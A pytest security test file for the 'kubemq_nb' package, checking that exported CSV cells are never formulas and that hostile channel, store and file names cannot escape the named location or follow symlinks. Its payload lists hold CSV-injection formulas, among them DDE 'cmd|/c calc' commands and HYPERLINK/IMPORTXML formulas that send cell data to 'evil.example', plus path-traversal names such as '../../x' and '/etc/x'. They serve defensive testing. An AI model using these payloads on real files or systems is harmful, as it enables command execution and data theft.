"""Files that the package writes: no cell is a formula, and nothing is written but where the user said."""

import csv
import os
from contextlib import suppress
from pathlib import Path

import openpyxl
import pytest

import kubemq_nb
from kubemq_nb import frames
from kubemq_nb.broker import launcher
from kubemq_nb.errors import BrokerStartError, KubeMQError, RequestRejected
from kubemq_nb.frames import Writer
from tests.security.hostile import CONTROLS
from tests.security.specimens import queue_frame

BEGINNINGS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
FORMULAS = (
    "=1+1",
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    "+1-2",
    "-2+3+cmd|'/c calc'!A1",
    "@SUM(1+1)*cmd|'/c calc'!A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\uff1d1+1",
    "\uff20SUM(1)",
    "'=1+1",
    "''",
    '"=1+1',
    'x",=1+1,"y',
    'x"\n=1+1',
    ";=1+1",
    "=1+1;=2+2",
)
KINDS = (".csv", ".jsonl", ".parquet")
HOSTILE_NAMES = (
    "../x",
    "../../x",
    "/etc/x",
    "a/../../x",
    "..",
    ".",
    "~/x",
    "~root/x",
    "CON",
    "nul",
    "x" * 300,
    "%2e%2e%2fx",
)
AS_CHANNELS = [name for name in HOSTILE_NAMES if not name.endswith(".")]


def cells(path):
    with path.open(newline="", encoding="utf-8") as file:
        return [cell for row in csv.reader(file) for cell in row]


def written(path, *made):
    with Writer(path) as writer:
        for frame in made:
            writer.write(frame)
    return path


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_of_a_csv_file_is_a_formula(tmp_path, text):
    """First seen red on the mutation `formula-prefix-left-out`, and on a prefix that knew no line feed."""
    path = written(tmp_path / "rows.csv", queue_frame(text))

    sheet = openpyxl.Workbook().active
    for number, cell in enumerate(cells(path), 1):
        assert not cell.startswith(BEGINNINGS)
        place = sheet.cell(number, 1)
        place.value = "".join(each for each in cell if each in "\t\n\r" or each not in CONTROLS)
        assert place.data_type != "f", cell


@pytest.mark.parametrize("kind", KINDS)
def test_what_was_marked_is_read_back_as_it_was(tmp_path, kind):
    path = written(tmp_path / f"rows{kind}", *(queue_frame(text) for text in FORMULAS))

    found = frames.records(path)

    assert [each["body"] for each in found] == [text.encode() for text in FORMULAS]
    assert [each["metadata"] for each in found] == list(FORMULAS)
    assert [each["tags"] for each in found] == [{text: text} for text in FORMULAS]


def test_a_cell_that_is_a_formula_is_seen():
    place = openpyxl.Workbook().active.cell(1, 1)
    place.value = FORMULAS[0]

    assert place.data_type == "f"


# Where it is written


def tree(folder):
    """All that is in a folder, links not followed, with what the files hold."""
    return {
        str(path.relative_to(folder)): path.read_bytes() if path.is_file() and not path.is_symlink() else None
        for path in folder.rglob("*")
    }


@pytest.fixture
def around(tmp_path):
    """A folder with others around it that nobody named, in which the test stands."""
    (tmp_path / "here" / "deep").mkdir(parents=True)
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / "theirs").write_text("theirs")
    before = Path.cwd()
    os.chdir(tmp_path / "here" / "deep")
    yield tmp_path
    os.chdir(before)


@pytest.mark.embedded_only
def test_names_of_others_are_no_paths(around, broker):
    """Channels, ids, clients, tags that are paths: first seen red on a send that kept a file of the id."""
    outside, taken = tree(around), []
    with kubemq_nb.connect(broker.address, token_file=broker.token_file) as kq:
        for name in AS_CHANNELS:
            with suppress(RequestRejected):  # some are no channels
                kq.queues.send(name, "x", id=name, metadata=name, tags={name: name})
                kq.queues.peek(name, to_file=around / "here" / "rows.csv")
                kq.queues.receive(name)
                taken.append(name)
            with suppress(RequestRejected):
                kq.events_store.send(name, "x", tags={name: name})
                kq.events_store.receive(name, start="first", to_file=around / "here" / "rows.csv")
            kq.queues.send("sound", "x", id=name, metadata=name, tags={name: name}, client_id=name)
    names = {path.name for path in broker.store.rglob("*")}

    assert {name: held for name, held in tree(around).items() if name != "here/rows.csv"} == outside
    assert [name for name in names if name in HOSTILE_NAMES or ".." in name] == []
    assert len(taken) >= 4


@pytest.mark.embedded_only
@pytest.mark.parametrize("name", ["a\0b", "a\nb", "a b"])
def test_a_channel_that_would_harm_is_refused(session, name):
    with pytest.raises(KubeMQError):
        session.queues.send(name, "x")


@pytest.mark.parametrize(
    "name", ["..", ".", "", "a b", "a\0b", "x" * 300, "caf\u00e9", "-x", "a\\b", "a:b", "%2e", "\u202ex"]
)
def test_a_store_has_a_name_or_a_path_and_nothing_between(around, monkeypatch, name):
    monkeypatch.setenv("XDG_DATA_HOME", str(around / "data"))
    before = tree(around)

    with pytest.raises((ValueError, BrokerStartError)) as caught:
        launcher.launch(name)

    assert tree(around) == before
    assert "\n" not in str(caught.value)


@pytest.mark.parametrize("path", ["/dev/null/x", "/proc/x", f"./{'x' * 300}"])
def test_a_store_that_cannot_be_is_told_in_a_line(path):
    with pytest.raises(BrokerStartError, match=r"^the store .* cannot be used: .+$"):
        launcher.launch(path)


@pytest.mark.parametrize("kind", KINDS)
def test_an_export_goes_to_the_named_file_and_follows_no_link(tmp_path, kind):
    """First seen red with `path.open("w")` for the unfinished file: a link there was written through."""
    theirs, folder = tmp_path / "theirs", tmp_path / "folder"
    theirs.write_text("theirs")
    folder.mkdir()
    path = folder / f"rows{kind}"
    path.symlink_to(theirs)
    for unfinished in (f".{path.name}.{os.getpid()}", f".{path.name}.{os.getpid()}.again"):
        (folder / unfinished).symlink_to(theirs)

    fields = queue_frame("x", fields=["n"]).assign(n=[1])
    written(path, fields)

    assert theirs.read_text() == "theirs"
    assert not path.is_symlink()
    assert [each.name for each in folder.iterdir() if not each.is_symlink()] == [path.name]


@pytest.mark.parametrize("name", ["a\0b.csv", f"{'x' * 300}.csv", "missing/x.csv"])
def test_an_export_that_cannot_be_is_told_in_a_line_and_leaves_nothing(around, name):
    before = tree(around)

    with pytest.raises((OSError, ValueError)) as caught:
        Writer(name)

    assert tree(around) == before
    assert "\n" not in str(caught.value)
